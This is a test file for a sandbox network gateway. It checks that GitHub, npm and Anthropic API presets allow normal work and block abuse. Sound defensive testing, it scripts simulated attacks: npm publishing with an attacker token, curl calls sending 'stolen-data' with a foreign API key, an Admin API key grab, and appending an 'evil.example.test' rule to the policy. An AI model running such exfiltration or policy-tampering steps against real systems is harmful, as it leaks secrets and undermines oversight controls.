// The shipped presets with real, unmodified clients in the real jail (`srt-gw run`), against local
// fakes that speak each API's protocol under the real host names (github.com, registry.npmjs.org,
// api.anthropic.com — resolved by the gateway to 127.0.0.1, with certificates from a test CA the
// gateway trusts upstream). Each preset is shown doing its job and refusing what it is there to
// refuse, and the fake's own request log proves a refused request never arrived.
import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { credentialPlaceholders } from '../../policies/credentials.js';
import { parsePolicy } from '../../policies/loader.js';
import { capabilityGate, missingCommand, missingRoot } from '../support/capabilities.js';
import { createBareRepository, gitHttpBackend, hostGit, type BareRepository } from '../support/fake-git-server.js';
import { startFakeHttpsServer, type FakeHttpsServer, type LoggedRequest, type RequestHandler } from '../support/fake-https-server.js';
import { packNpmPackage, publishNpmPackage } from '../support/fake-npm-registry.js';
import type { AuditLine } from '../support/gateway-process.js';
import { createJailWorkdir, describeRun, runInJailCli, type JailRunResult } from '../support/jail-run.js';
import { createTestPki, type TestPki } from '../support/test-pki.js';

const skip = capabilityGate(missingRoot(), missingCommand('bwrap'), missingCommand('nft'), missingCommand('git'), missingCommand('npm'), missingCommand('curl'), missingCommand('openssl'));

const GITHUB = 'github.com';
const NPM = 'registry.npmjs.org';
const ANTHROPIC = 'api.anthropic.com';
const NAMES = [GITHUB, NPM, ANTHROPIC];

let root = '';
let pki: TestPki | undefined;
let caDir = '';

beforeAll(() => {
  if (skip !== null) return;
  root = realpathSync(mkdtempSync(join(tmpdir(), 'srt-gw-presets-')));
  pki = createTestPki(NAMES);
  caDir = join(root, 'srt-gw-ca');
});

afterAll(() => {
  pki?.cleanup();
  if (root !== '') rmSync(root, { recursive: true, force: true });
});

function jailRun(cwd: string, command: string[], policyYaml: string, env?: Record<string, string>): Promise<JailRunResult> {
  return runInJailCli({ cwd, command, policyYaml, env, caDir, upstreamCa: [pki!.ca.certPath], resolveToLoopback: NAMES, timeoutMs: 40_000 });
}

function fakeServer(handler?: RequestHandler): Promise<FakeHttpsServer> {
  return startFakeHttpsServer({ cert: pki!.server.cert, key: pki!.server.key, handler });
}

const requestLine = (request: LoggedRequest) => `${request.method} ${request.path}`;
const requestAudit = (result: JailRunResult, method: string, path: string) =>
  result.audit.filter((line: AuditLine) => line.kind === 'request' && line.method === method && line.path === path);

describe.skipIf(skip !== null)('preset:github — clone anything, push only to listed repositories', () => {
  const POLICY = ['version: 1', 'extends:', '  - { preset: github, with: { pushRepos: ["me/project"] } }', ''].join('\n');
  let server: FakeHttpsServer;
  let unlisted: BareRepository;
  let listed: BareRepository;

  beforeAll(async () => {
    const projectRoot = join(root, 'github');
    mkdirSync(projectRoot, { recursive: true });
    // Served as https://github.com:PORT/<owner>/<repo>.git by git's own http-backend.
    unlisted = createBareRepository(projectRoot, 'octo/tool', { 'README.md': 'octo/tool\n' });
    listed = createBareRepository(projectRoot, 'me/project', { 'README.md': 'me/project\n' });
    server = await fakeServer(gitHttpBackend(projectRoot));
  });

  afterAll(async () => {
    await server?.close();
  });

  /** A host-side clone (no network) of `repo` whose origin is the fake github.com, with one commit to push. */
  function cloneWithCommit(repo: BareRepository, remotePath: string, name: string): { cwd: string; head: string } {
    const cwd = createJailWorkdir(root, name);
    const clone = join(cwd, 'clone');
    hostGit(['clone', '-q', repo.path, clone]);
    hostGit(['remote', 'set-url', 'origin', server.url(GITHUB, remotePath)], clone);
    writeFileSync(join(clone, `${name}.txt`), `pushed from ${name}\n`);
    hostGit(['add', '.'], clone);
    hostGit(['commit', '-q', '-m', `push from ${name}`], clone);
    return { cwd, head: hostGit(['rev-parse', 'HEAD'], clone) };
  }

  it('git clone https://github.com/octo/tool.git works for a repository nobody listed', async () => {
    const cwd = createJailWorkdir(root, 'github-clone');
    const result = await jailRun(cwd, ['git', 'clone', server.url(GITHUB, '/octo/tool.git'), 'clone'], POLICY);
    expect(result.code, describeRun(result)).toBe(0);
    expect(readFileSync(join(cwd, 'clone', 'README.md'), 'utf8')).toBe('octo/tool\n');
    expect(hostGit(['rev-parse', 'HEAD'], join(cwd, 'clone'))).toBe(unlisted.head);
    expect(requestAudit(result, 'GET', '/octo/tool.git/info/refs')[0]).toMatchObject({ decision: 'allow', rule: 'github.git-refs' });
    expect(requestAudit(result, 'POST', '/octo/tool.git/git-upload-pack')[0]).toMatchObject({ decision: 'allow', rule: 'github.git-fetch' });
    expect(new Set(server.requests.map((request) => request.servername))).toEqual(new Set([GITHUB]));
  });

  it('git push to an unlisted repository is refused at the receive-pack POST, which never reaches GitHub', async () => {
    const { cwd } = cloneWithCommit(unlisted, '/octo/tool.git', 'github-push-unlisted');
    const before = server.requests.length;
    const result = await jailRun(cwd, ['git', '-C', 'clone', 'push', 'origin', 'main'], POLICY);
    expect(result.code, describeRun(result)).not.toBe(0);
    expect(result.stderr).toMatch(/\b403\b/);
    const during = server.requests.slice(before).map(requestLine);
    // Push discovery looks like a fetch's (the query is not matched) and is allowed; the POST is not.
    expect(during).toContain('GET /octo/tool.git/info/refs?service=git-receive-pack');
    expect(during.filter((line) => line.startsWith('POST '))).toEqual([]);
    expect(requestAudit(result, 'POST', '/octo/tool.git/git-receive-pack')[0]).toMatchObject({ decision: 'deny', rule: 'default-deny', status: 403 });
    expect(hostGit(['rev-parse', 'main'], unlisted.path)).toBe(unlisted.head);
  });

  it('git push to the listed repository goes through', async () => {
    const { cwd, head } = cloneWithCommit(listed, '/me/project.git', 'github-push-listed');
    const result = await jailRun(cwd, ['git', '-C', 'clone', 'push', 'origin', 'main'], POLICY);
    expect(result.code, describeRun(result)).toBe(0);
    expect(server.requests.map(requestLine)).toContain('POST /me/project.git/git-receive-pack');
    expect(requestAudit(result, 'POST', '/me/project.git/git-receive-pack')[0]).toMatchObject({ decision: 'allow', rule: 'github.git-push' });
    expect(hostGit(['rev-parse', 'main'], listed.path)).toBe(head);
  });
});

describe.skipIf(skip !== null)('preset:npm-read — npm install works, npm publish is refused', () => {
  const POLICY = 'version: 1\nextends: [preset:npm-read]\n';
  const NAME = 'srtgw-preset-probe';
  let server: FakeHttpsServer;

  beforeAll(async () => {
    const work = join(root, 'npm-packages');
    mkdirSync(work, { recursive: true });
    server = await fakeServer();
    publishNpmPackage(server, packNpmPackage(work, { name: NAME, version: '1.0.0', indexJs: "module.exports = 'installed under preset:npm-read';\n" }), NPM);
  });

  afterAll(async () => {
    await server?.close();
  });

  const npm = (...args: string[]) => ['npm', ...args, '--registry', server.url(NPM, '/'), '--cache', '/tmp/npm-cache', '--no-audit', '--no-fund', '--no-update-notifier', '--fetch-retries', '0'];

  it(`npm install ${NAME} fetches packument and tarball from registry.npmjs.org`, async () => {
    const cwd = createJailWorkdir(root, 'npm-install');
    writeFileSync(join(cwd, 'package.json'), `${JSON.stringify({ name: 'npm-install', version: '1.0.0', private: true })}\n`);
    const result = await jailRun(cwd, npm('install', NAME), POLICY);
    expect(result.code, describeRun(result)).toBe(0);
    expect(readFileSync(join(cwd, 'node_modules', NAME, 'index.js'), 'utf8')).toContain('installed under preset:npm-read');
    expect(server.requests.map(requestLine)).toEqual(expect.arrayContaining([`GET /${NAME}`, `GET /${NAME}/-/${NAME}-1.0.0.tgz`]));
    expect(requestAudit(result, 'GET', `/${NAME}`)[0]).toMatchObject({ decision: 'allow', rule: 'npm-read.packuments' });
    expect(requestAudit(result, 'GET', `/${NAME}/-/${NAME}-1.0.0.tgz`)[0]).toMatchObject({ decision: 'allow', rule: 'npm-read.tarballs' });
  });

  it('npm publish (with a token, as an attacker would bring) is refused; no PUT reaches the registry', async () => {
    const cwd = createJailWorkdir(root, 'npm-publish');
    writeFileSync(join(cwd, 'package.json'), `${JSON.stringify({ name: 'srtgw-exfil-dump', version: '1.0.0', license: 'MIT' })}\n`);
    writeFileSync(join(cwd, 'index.js'), 'module.exports = "stolen";\n');
    // npm refuses to publish without a token before sending anything; give it one.
    writeFileSync(join(cwd, '.npmrc'), `${server.url(NPM, '/').replace(/^https:/, '')}:_authToken=npm_attackerToken000000000000000000000\n`);
    const before = server.requests.length;
    const result = await jailRun(cwd, npm('publish'), POLICY);
    expect(result.code, describeRun(result)).not.toBe(0);
    expect(result.stderr).toMatch(/\b403\b/);
    expect(server.requests.slice(before).filter((request) => request.method !== 'GET' && request.method !== 'HEAD')).toEqual([]);
    expect(requestAudit(result, 'PUT', '/srtgw-exfil-dump')[0]).toMatchObject({ decision: 'deny', rule: 'default-deny', status: 403 });
  });
});

describe.skipIf(skip !== null)('preset:anthropic — the real key is injected; the jail holds a placeholder', () => {
  const SECRET = 'sk-ant-api03-realKeyOnTheHostOnly-0123456789abcdef';
  const ATTACKER_KEY = 'sk-ant-api03-attackerKey-000000000000000000';
  const POLICY = 'version: 1\nextends: [preset:anthropic]\n';
  const placeholder = credentialPlaceholders(parsePolicy(POLICY)).get('ANTHROPIC_API_KEY') ?? '';
  const seen: { method: string; path: string; apiKey: string | undefined; authorization: string | undefined; body: string }[] = [];
  let server: FakeHttpsServer;
  let result: JailRunResult;

  beforeAll(async () => {
    server = await fakeServer((req, res) => {
      let body = '';
      req.setEncoding('utf8');
      req.on('data', (chunk: string) => (body += chunk));
      req.on('end', () => {
        seen.push({ method: req.method ?? '', path: req.url ?? '', apiKey: req.headers['x-api-key'] as string | undefined, authorization: req.headers.authorization, body });
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ id: 'msg_01', type: 'message', role: 'assistant', content: [{ type: 'text', text: 'hello from the fake' }], echoedKey: req.headers['x-api-key'] }));
      });
    });
    const message = JSON.stringify({ model: 'claude-sonnet-4-5', max_tokens: 64, messages: [{ role: 'user', content: 'hi' }] });
    const url = (path: string) => server.url(ANTHROPIC, path);
    const script = [
      'echo "key-in-jail=$ANTHROPIC_API_KEY"',
      // What an SDK sends: the key from the environment, here the placeholder.
      `curl -sS -X POST ${url('/v1/messages')} -H "x-api-key: $ANTHROPIC_API_KEY" -H 'anthropic-version: 2023-06-01' -H 'content-type: application/json' --data '${message}'; echo`,
      // An attacker's own key, and another account's OAuth token riding along.
      `curl -sS -o /dev/null -w "attacker=%{http_code}\\n" -X POST ${url('/v1/messages')} -H "x-api-key: ${ATTACKER_KEY}" --data stolen-data`,
      `curl -sS -o /dev/null -w "admin=%{http_code}\\n" ${url('/v1/organizations/api_keys')} -H "x-api-key: $ANTHROPIC_API_KEY"`,
      `curl -sS -o /dev/null -w "oauth=%{http_code}\\n" ${url('/v1/models')} -H "authorization: Bearer other-account-token"`,
    ].join('; ');
    const cwd = createJailWorkdir(root, 'anthropic');
    result = await jailRun(cwd, ['sh', '-c', script], POLICY, { ANTHROPIC_API_KEY: SECRET });
  });

  afterAll(async () => {
    await server?.close();
  });

  it('the command runs and sees only the placeholder', () => {
    expect(result.code, describeRun(result)).toBe(0);
    expect(placeholder).toMatch(/^srtgw-placeholder-anthropic-api-key-/);
    expect(result.stdout).toContain(`key-in-jail=${placeholder}\n`);
    expect(result.stdout).not.toContain(SECRET);
  });

  it('POST /v1/messages reaches the API with the real key; its echo of the key comes back masked', () => {
    const messages = seen.filter((request) => request.method === 'POST' && request.path === '/v1/messages');
    expect(messages).toHaveLength(1);
    expect(messages[0]).toMatchObject({ apiKey: SECRET, authorization: undefined });
    expect(JSON.parse(messages[0]!.body)).toMatchObject({ model: 'claude-sonnet-4-5' });
    expect(result.stdout).toContain('hello from the fake');
    expect(result.stdout).toContain(`"echoedKey":"${placeholder}"`);
    expect(requestAudit(result, 'POST', '/v1/messages')[0]).toMatchObject({ decision: 'allow', rule: 'anthropic.messages', credential: 'injected' });
  });

  it("an attacker's key and the Admin API are refused before anything leaves; another account's token is removed", () => {
    expect(result.stdout).toContain('attacker=403\n');
    expect(result.stdout).toContain('admin=403\n');
    expect(result.stdout).toContain('oauth=200\n');
    expect(seen.map((request) => `${request.method} ${request.path}`)).toEqual(['POST /v1/messages', 'GET /v1/models']);
    expect(seen.some((request) => request.body.includes('stolen-data') || request.apiKey === ATTACKER_KEY)).toBe(false);
    expect(seen.find((request) => request.path === '/v1/models')).toMatchObject({ apiKey: SECRET, authorization: undefined });
    expect(requestAudit(result, 'GET', '/v1/organizations/api_keys')[0]).toMatchObject({ decision: 'deny', rule: 'default-deny', status: 403 });
  });
});

describe.skipIf(skip !== null)('extends: a policy file inside the project', () => {
  it('stays read-only in the jail, like the policy file itself', async () => {
    const cwd = createJailWorkdir(root, 'extends-read-only');
    const team = join(cwd, 'team-policy.yaml');
    const text = 'version: 1\nrules:\n  - id: team-docs\n    host: docs.example.test\n';
    writeFileSync(team, text);
    const result = await jailRun(cwd, ['sh', '-c', 'echo "  - { id: agent-added, host: evil.example.test }" >> team-policy.yaml; echo "append=$?"'], `version: 1\nextends: [${JSON.stringify(team)}]\n`);
    expect(result.code, describeRun(result)).toBe(0);
    expect(result.stdout).toMatch(/append=[1-9]/);
    expect(readFileSync(team, 'utf8')).toBe(text);
  });
});
